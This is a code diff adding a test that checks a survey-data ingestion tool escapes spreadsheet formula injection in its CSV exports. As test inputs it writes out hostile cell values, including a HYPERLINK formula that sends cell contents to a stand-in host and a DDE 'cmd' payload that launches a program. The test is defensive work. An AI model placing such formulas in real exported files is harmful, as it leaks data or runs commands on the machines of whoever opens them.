@@ -1492,3 +1492,28 @@ def test_cli_prints_participants_without_responses(raw, tmp_path, capsys):
     assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "out")]) == 0
     out = capsys.readouterr().out
     assert "participants without responses: 1 of 9 employee(s)" in out and "non-responders" in out
+
+
+def test_text_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(raw, tmp_path):
+    """Cells starting with =, +, -, @, tab or CR were written as is into the cohort CSVs (issue #11): opened in a
+    spreadsheet, =HYPERLINK(...) or =cmd|... would run. Text gets a leading '; numbers, negative ones included, stay."""
+    _set_cell(raw / "hr.csv", 2, "Department", '=HYPERLINK("http://example.invalid/?"&A1,"open")')
+    _set_cell(raw / "hr.csv", 3, "Department", "@SUM(A1:A9)")
+    _set_cell(raw / "hr.csv", 4, "Department", "-3")              # text that is a plain number: read as a number
+    _set_cell(raw / "hr.csv", 5, "Department", "-")
+    _set_cell(raw / "hr.csv", 6, "Department", "+cmd|' /C calc'!A0")
+    _set_cell(raw / "hr.csv", 2, "Years of service", "-2")          # a negative number in a numeric column
+    rep = _ingest(raw, tmp_path / "out")
+    rows = {r["participant_id"]: r for r in csv.DictReader(open(tmp_path / "out" / "participants.csv"))}
+    assert rows["E101"]["department"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    assert rows["E102"]["department"] == "'@SUM(A1:A9)"
+    assert rows["E103"]["department"] == "-3" and rows["E104"]["department"] == "-"
+    assert rows["E105"]["department"] == "'+cmd|' /C calc'!A0"
+    assert rows["E101"]["tenure_years"] == "-2"
+    (w,) = [w for w in rep["warnings"] if "leading '" in w]
+    assert "participants.csv: 3" in w
+    for name in ("participants.csv", "responses.csv", "employment.csv"):
+        for row in csv.reader(open(tmp_path / "out" / name)):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+                assert not cell.startswith("-") or re.fullmatch(r"-[\d.]*", cell), (name, cell)
